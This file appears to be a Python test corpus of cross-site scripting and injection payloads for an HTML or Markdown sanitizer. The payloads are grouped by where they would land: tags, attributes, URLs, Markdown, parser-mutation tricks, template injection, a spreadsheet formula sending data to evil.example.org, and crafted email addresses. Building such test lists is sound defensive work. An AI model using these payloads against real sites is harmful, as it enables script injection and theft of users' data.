"""
What people type who want a page to run their program: by the place that it is made for.

Each calls xss() or says what must never be there: an attribute data-xss, or an address of evil.example.org.
"""

ELEMENTS = [
    "<script>xss()</script>",
    "<ScRiPt src=//evil.example.org/x.js></sCrIpT>",
    "<script/x>xss()</script\n>",
    "<<script>xss();//<</script>",
    "<img src=x onerror=xss()>",
    "<img src=x:x onerror\n=\nxss()>",
    '<img src="x` `<script>xss()</script>"` `>',
    "<b data-xss>",
    "<p data-xss onmouseover=xss()>over",
    "<a href=javascript:xss()>go</a>",
    "<iframe srcdoc='&lt;script&gt;parent.xss()&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:parent.xss()>",
    "<object data=javascript:xss()><embed src=javascript:xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()>",
    "<body onload=xss()>",
    "<marquee onstart=xss()>",
    "<form action=//evil.example.org/><button data-xss>ok",
    "<base href=//evil.example.org/>",
    "<meta http-equiv=refresh content=0;url=//evil.example.org/>",
    "<link rel=stylesheet href=//evil.example.org/x.css>",
    "<template><img src=x onerror=xss()></template>",
    "<slot data-xss></slot><dialog open data-xss>",
]
ATTRIBUTES = [
    '" onfocus=xss() autofocus data-xss="',
    "' onfocus=xss() autofocus data-xss='",
    '"><script>xss()</script>',
    "'><img src=x onerror=xss()>",
    "x onmouseover=xss() data-xss",
    "`onfocus=xss()`",
    "&quot;><img src=x onerror=xss()>",
    '\u2028" onload=xss() data-xss="',
]
ADDRESSES = [
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    "\x01javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "vbscript:xss()",
    "//evil.example.org/x",
    'https://example.org/"onmouseover=xss() data-xss="',
    "https://example.org/'><script>xss()</script>",
    "https://example.org/?javascript:xss()",
]
MARKDOWN = [
    "[go](javascript:xss())",
    "[go](JaVaScRiPt&#58;xss())",
    "[go](java&#x09;script:xss())",
    "[go](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[go]: javascript:xss()\n\n[go]",
    "<javascript:xss()>",
    "![x](javascript:xss())",
    '![x" onerror=xss() data-xss="](picture:1)',
    '![x](https://evil.example.org/x.png "><script>xss()</script>")',
    "[go](https://example.org/ '\" onmouseover=xss() data-xss=\"')",
    '```"><script>xss()</script>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=xss()> |",
    "<div>\n\n**<script>xss()</script>**\n\n</div>",
]
# What a cleaner's parser and a browser's take for different things.
MUTATING = [
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    "<textarea></textarea><img src=x onerror=xss()></textarea>",
    "</title><img src=x onerror=xss()><title>",
    "--><img src=x onerror=xss()><!--",
    "]]><img src=x onerror=xss()>",
    '<xmp><p title="</xmp><img src=x onerror=xss()>">',
]
OTHERS = [
    "<svg onload=xss()>",
    "<svg><script href=data:,xss() /></svg>",
    "<svg><a xlink:href=javascript:xss()><text y=20>go</text></a></svg>",
    "<svg><animate onbegin=xss() attributeName=x></svg>",
    "{{ ''.constructor.constructor('xss()')() }}",
    "{% include 'xss' %}{{ settings.SECRET_KEY }}",
    "${xss()}",
    "</script><script>xss()</script>",
    '"};xss();//',
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "<style>@import '//evil.example.org/x.css';</style>",
    "x;background:url(//evil.example.org/x)",
    '=HYPERLINK("//evil.example.org/"&A1)',
    "</content><script xmlns='http://www.w3.org/1999/xhtml'>xss()</script>",
    "x\r\nATTACH:javascript:xss()\r\n",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "<\u017fcript>xss()</\u017fcript>",
    "\u202e<script>xss()</script>",
    "<scr\u0000ipt>xss()</scr\u0000ipt>",
    "\ufffe<img src=x onerror=xss()>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "%3Cscript%3Exss()%3C/script%3E",
]
# Valid addresses (RFC 5322, 3.4.1).
MAIL = ['"<img/src=x/onerror=xss()>"@example.org', '"\'><svg/onload=xss()>"@example.org']
ALL = [*ELEMENTS, *ATTRIBUTES, *ADDRESSES, *MARKDOWN, *MUTATING, *OTHERS, *MAIL]
